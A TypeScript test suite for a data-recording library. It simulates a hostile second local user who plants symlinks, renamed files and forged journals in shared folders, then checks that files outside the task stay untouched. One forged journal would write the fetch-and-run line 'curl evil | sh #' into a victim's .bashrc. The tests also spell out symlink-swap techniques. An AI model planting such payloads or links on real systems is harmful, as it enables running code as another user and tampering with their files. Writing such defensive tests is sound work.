/**
 * A second local user (created here with useradd; root only) plants folders, files, symlinks
 * and forged journals wherever it can while this user records: no file outside the task
 * changes, and the writer either works or fails with a typed error (an AxoPyError).
 */
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { type ChildProcess, execFileSync, spawn, spawnSync } from 'node:child_process';
import { createHash } from 'node:crypto';
import { chmodSync, existsSync, mkdirSync, readdirSync, readFileSync, statSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { tmpdir } from 'node:os';
import { AxoPyError, Design, PermissionError, Storage, TaskExistsError, TaskWriter } from '../../src/kernel/index.js';
import { encodeJournal } from '../../src/core/hdf5-journal.js';
import { makeTempDir, runPythonJson } from '../helpers/python.js';

const HOSTILE = 'axopy-hostile';
const isRoot = process.getuid?.() === 0;
const skip = isRoot ? false : 'needs root to create a second user (useradd) and act as it; run the fault suite as root';
const hostileScript = join(__dirname, '..', 'helpers', 'hostile-user.js');
const writerScript = join(__dirname, '..', 'helpers', 'live-writer.js');

function hostileIds(): { uid: number; gid: number } {
  if (spawnSync('id', ['-u', HOSTILE]).status !== 0) {
    execFileSync('useradd', ['--system', '--no-create-home', '--shell', '/usr/sbin/nologin', HOSTILE]);
  }
  const uid = Number(execFileSync('id', ['-u', HOSTILE], { encoding: 'utf8' }));
  const gid = Number(execFileSync('id', ['-g', HOSTILE], { encoding: 'utf8' }));
  return { uid, gid };
}

type Plant = {
  op: 'mkdir' | 'symlink' | 'write' | 'rename' | 'chmod';
  path: string;
  target?: string;
  base64?: string;
  mode?: number;
};

/** Plants as the hostile user; returns what it managed to plant. */
function plantAsHostile(plants: Plant[]): string[] {
  const { uid, gid } = hostileIds();
  const out = execFileSync(process.execPath, [hostileScript, JSON.stringify(plants)], { uid, gid, encoding: 'utf8' });
  return JSON.parse(out) as string[];
}

/** Every file under `folder` (not following links) with a hash of its content. */
function snapshot(folder: string): Record<string, string> {
  const result: Record<string, string> = {};
  for (const entry of readdirSync(folder, { withFileTypes: true, recursive: true })) {
    const path = join(entry.parentPath, entry.name);
    result[path] = entry.isFile()
      ? createHash('sha256').update(readFileSync(path)).digest('hex')
      : entry.isDirectory()
        ? 'dir'
        : 'other';
  }
  return result;
}

/** A victim's home with files an attack would want to change. */
function makeVictimHome(base: string): string {
  const home = join(base, 'victim-home');
  mkdirSync(home, { mode: 0o755 });
  writeFileSync(join(home, '.bashrc'), 'echo hello\n');
  writeFileSync(join(home, 'notes.txt'), 'precious notes\n');
  writeFileSync(join(home, 'empty.hdf5'), '');
  return home;
}

async function writeTrials(writer: TaskWriter, from: number, count: number): Promise<{ ok: number; errors: string[] }> {
  const block = new Design().addBlock();
  let ok = 0;
  const errors: string[] = [];
  for (let i = from; i < from + count; i++) {
    const trial = block.addTrial({ i });
    trial.addArray('emg').stack({ dtype: 'float64', shape: [2, 50], data: new Float64Array(100).fill(i) });
    trial.addArray('force').stack({ dtype: 'int32', shape: [3], data: new Int32Array(3).fill(i) });
    try {
      await writer.write(trial);
      ok++;
    } catch (error) {
      assert.ok(error instanceof AxoPyError, `an untyped error: ${String((error as Error).stack)}`);
      errors.push(`${error.name}: ${error.message}`);
    }
  }
  return { ok, errors };
}

test(
  'subject or task folders planted as links out of the root: refused with a typed error, nothing outside changes',
  { skip },
  () => {
    const { dir, cleanup } = makeTempDir('axopy-hostile-');
    try {
      chmodSync(dir, 0o755);
      const home = makeVictimHome(dir);
      const shared = join(dir, 'shared');
      mkdirSync(shared);
      chmodSync(shared, 0o777); // a lab's shared data folder
      const before = snapshot(home);
      const planted = plantAsHostile([
        { op: 'symlink', path: join(shared, 'linked'), target: home },
        { op: 'mkdir', path: join(shared, 'owned'), mode: 0o777 },
        { op: 'symlink', path: join(shared, 'owned', 'task'), target: home }
      ]);
      assert.equal(planted.length, 3, 'the hostile user could plant');
      const storage = new Storage(shared, { allowOverwrite: true });
      storage.subjectId = 'linked';
      assert.throws(() => storage.createTask('task'), PermissionError);
      storage.subjectId = 'owned';
      assert.throws(() => storage.createTask('task'), PermissionError);
      assert.throws(() => new Storage(shared).createTask('x'), AxoPyError); // no subject
      const strict = new Storage(shared);
      strict.subjectId = 'owned';
      assert.throws(() => strict.createTask('task'), TaskExistsError);
      assert.deepEqual(snapshot(home), before);
    } finally {
      cleanup();
    }
  }
);

test(
  'links, folders and forged journals planted in a shared task folder while it is written: nothing outside changes, errors are typed',
  { skip },
  async () => {
    const { dir, cleanup } = makeTempDir('axopy-hostile-');
    try {
      chmodSync(dir, 0o755);
      const home = makeVictimHome(dir);
      const shared = join(dir, 'shared');
      mkdirSync(shared);
      chmodSync(shared, 0o777);
      const storage = new Storage(shared);
      storage.subjectId = 's1';
      chmodSync(join(shared, 's1'), 0o777);
      const writer = storage.createTask('t');
      const task = join(shared, 's1', 't');
      chmodSync(task, 0o777); // shared with the group: the worst case
      const first = await writeTrials(writer, 0, 3);
      assert.deepEqual(first.errors, []);
      const before = snapshot(home);
      // A journal forged for force.hdf5 with its real identity: would replace its first bytes.
      const force = statSync(join(task, 'force.hdf5'), { bigint: true });
      const forged = encodeJournal(
        { name: 'force.hdf5', device: force.dev, inode: force.ino, committedSize: force.size },
        [
          { position: 0, bytes: new Uint8Array(64).fill(0x41) },
          { position: 200, bytes: new Uint8Array(64).fill(0x42) }
        ]
      );
      const planted = plantAsHostile([
        // The writer's own journals (kept open between flushes) moved out of the way first.
        { op: 'rename', path: join(task, 'emg.hdf5-journal'), target: join(task, 'moved-1') },
        { op: 'rename', path: join(task, 'force.hdf5-journal'), target: join(task, 'moved-2') },
        { op: 'symlink', path: join(task, 'emg.hdf5-journal'), target: join(home, '.bashrc') },
        {
          op: 'write',
          path: join(task, 'force.hdf5-journal'),
          base64: Buffer.from(forged).toString('base64'),
          mode: 0o600
        },
        { op: 'mkdir', path: join(task, 'pressure.hdf5-journal') },
        { op: 'symlink', path: join(task, 'pressure.hdf5'), target: join(home, 'empty.hdf5') },
        { op: 'symlink', path: join(task, 'progress.pkl'), target: join(home, 'notes.txt') }
      ]);
      for (const name of ['emg.hdf5-journal', 'force.hdf5-journal', 'pressure.hdf5', 'progress.pkl']) {
        assert.ok(
          planted.some(done => done.endsWith(join(task, name))),
          `the hostile user planted ${name}: ${planted.join(', ')}`
        );
      }
      const second = await writeTrials(writer, 3, 3);
      writer.pickle({ ok: true }, 'progress');
      // An array planted as a link: refused, typed.
      const block = new Design().addBlock();
      const trial = block.addTrial({ i: 99 });
      trial.addArray('pressure').stack({ dtype: 'int32', shape: [1], data: Int32Array.of(1) });
      await assert.rejects(writer.write(trial), PermissionError);
      // Now trials.csv itself swapped for a link to the victim's notes.
      const swapped = plantAsHostile([
        { op: 'rename', path: join(task, 'trials.csv'), target: join(task, 'stolen.csv') },
        { op: 'symlink', path: join(task, 'trials.csv'), target: join(home, 'notes.txt') }
      ]);
      const third = await writeTrials(writer, 6, 2);
      await writer.close();
      storage.requireTask('t'); // recovery on open: forged journals are not replayed
      assert.deepEqual(snapshot(home), before, 'no file outside the task changed');
      assert.equal(
        second.errors.length,
        0,
        `the writer removes what is in its journals' way: ${second.errors.join(' | ')}`
      );
      assert.equal(swapped.length, 2);
      // The writer keeps trials.csv open between rows: its rows go on into the renamed file (its
      // own), never through the link; a row that reopens the file meets the link and is refused.
      assert.equal(third.ok + third.errors.length, 2);
      assert.ok(
        third.errors.every(message => message.startsWith('PermissionError')),
        third.errors.join(' | ')
      );
      // force.hdf5 was never overwritten by the forged journal: h5py reads every trial written.
      const values = runPythonJson<number[][]>(
        `import json, sys, h5py
with h5py.File(sys.argv[1], "r") as f:
    print(json.dumps([f[str(i)][()].tolist() for i in range(6)]))`,
        [join(task, 'force.hdf5')]
      );
      assert.deepEqual(
        values,
        [0, 1, 2, 3, 4, 5].map(i => [i, i, i])
      );
      assert.ok(!existsSync(join(task, 'force.hdf5-journal')));
    } finally {
      cleanup();
    }
  }
);

/** The journal format of the shared temp folder design (v2), to plant what that design replayed. */
function oldStyleJournal(target: string, writes: Array<{ position: number; bytes: Buffer }>): Buffer {
  const magic = Buffer.from('AXOPY-HDF5-JOURNAL-2\n');
  const targetLine = Buffer.from(JSON.stringify(target) + '\n');
  const head = (length: number): Buffer => {
    const bytes = Buffer.alloc(12);
    bytes.writeUIntLE(length, 0, 6);
    bytes.writeUInt32LE(1, 8);
    return bytes;
  };
  let length = magic.length + 12 + targetLine.length + 12 + 4;
  const records = writes.flatMap(({ position, bytes }) => {
    const header = Buffer.alloc(12);
    header.writeUIntLE(position, 0, 6);
    header.writeUInt32LE(bytes.length, 8);
    length += 12 + bytes.length;
    return [header, bytes];
  });
  return Buffer.concat([magic, head(length), targetLine, ...records, head(length), Buffer.from('END\n')]);
}

test(
  "a journal planted in the shared temp folder for the writer's pid is never replayed (the old helper wrote it into ~/.bashrc)",
  { skip },
  async () => {
    const { dir, cleanup } = makeTempDir('axopy-hostile-');
    try {
      chmodSync(dir, 0o755);
      const home = makeVictimHome(dir);
      const before = snapshot(home);
      const root = join(dir, 'data');
      const child = spawn(process.execPath, [writerScript, root, '50', '1'], { stdio: ['ignore', 'pipe', 'inherit'] });
      const folder = join(tmpdir(), `axopy-hdf5-journal-${child.pid}`);
      const payload = oldStyleJournal(join(home, '.bashrc'), [
        { position: 0, bytes: Buffer.from('curl evil | sh #') },
        { position: 16, bytes: Buffer.from('\n') }
      ]);
      plantAsHostile([
        { op: 'mkdir', path: folder, mode: 0o777 },
        { op: 'write', path: join(folder, '999.journal'), base64: payload.toString('base64') }
      ]);
      const out = await new Promise<string>(resolve => {
        let text = '';
        child.stdout.on('data', chunk => (text += chunk));
        child.on('exit', () => resolve(text));
      });
      assert.match(out, /finished \d+/);
      await new Promise(resolve => setTimeout(resolve, 500)); // time for any helper to act
      assert.deepEqual(snapshot(home), before, '~/.bashrc unchanged');
      execFileSync('rm', ['-rf', folder]);
    } finally {
      cleanup();
    }
  }
);

test(
  'permission taken away mid-recording (trials.csv, the task folder): PermissionError naming the file, the next write works once it is back',
  { skip },
  async () => {
    const { dir, cleanup } = makeTempDir('axopy-permission-');
    let child: ChildProcess | undefined;
    try {
      chmodSync(dir, 0o755);
      const { uid, gid } = hostileIds();
      const root = join(dir, 'data');
      mkdirSync(root);
      execFileSync('chown', [`${uid}:${gid}`, root]);
      // The writer runs as the second user: root ignores permission bits.
      const writer = spawn(process.execPath, [join(__dirname, '..', 'helpers', 'step-writer.js'), root], {
        uid,
        gid,
        stdio: ['pipe', 'pipe', 'inherit']
      });
      child = writer;
      const replies: string[] = [];
      let waiting: ((line: string) => void) | undefined;
      let buffered = '';
      writer.stdout.on('data', chunk => {
        buffered += chunk;
        const lines = buffered.split('\n');
        buffered = lines.pop()!;
        for (const line of lines) {
          if (waiting) {
            const w = waiting;
            waiting = undefined;
            w(line);
          } else replies.push(line);
        }
      });
      const send = (command: string): Promise<{ ok?: boolean; error?: string; message?: string }> =>
        new Promise(resolve => {
          waiting = line => resolve(JSON.parse(line));
          writer.stdin.write(command + '\n');
        });
      const task = join(root, 's1', 't');
      assert.deepEqual(await send('write'), { ok: true });
      chmodSync(join(task, 'trials.csv'), 0o444);
      const csvRefused = await send('write');
      assert.equal(csvRefused.error, 'PermissionError', JSON.stringify(csvRefused));
      assert.ok(csvRefused.message!.includes(join(task, 'trials.csv')), csvRefused.message);
      chmodSync(join(task, 'trials.csv'), 0o644);
      assert.deepEqual(await send('write'), { ok: true });
      chmodSync(task, 0o555); // no new file in the task folder: late.hdf5 cannot be made
      const folderRefused = await send('write-new');
      assert.equal(folderRefused.error, 'PermissionError', JSON.stringify(folderRefused));
      assert.ok(folderRefused.message!.includes(join(task, 'late.hdf5')), folderRefused.message);
      chmodSync(task, 0o755);
      assert.deepEqual(await send('write'), { ok: true });
      assert.deepEqual(await send('close'), { ok: true });
      const read = runPythonJson<{ rows: number[]; datasets: Record<string, number[]> }>(
        `import json, sys, os, h5py, pandas
df = pandas.read_csv(os.path.join(sys.argv[1], "trials.csv"))
with h5py.File(os.path.join(sys.argv[1], "emg.hdf5"), "r") as f:
    datasets = {k: f[k][()].tolist() for k in f.keys()}
print(json.dumps({"rows": df["i"].tolist(), "datasets": datasets}))`,
        [task]
      );
      assert.deepEqual(read.rows, [0, 1, 2]);
      assert.deepEqual(
        read.datasets,
        { 0: [0, 0], 1: [1, 1], 2: [2, 2] },
        'no dataset of a refused trial left over (emg.hdf5 was written before late.hdf5 failed)'
      );
      assert.deepEqual(replies, []);
    } finally {
      if (child !== undefined && child.exitCode === null) child.kill('SIGKILL');
      cleanup();
    }
  }
);
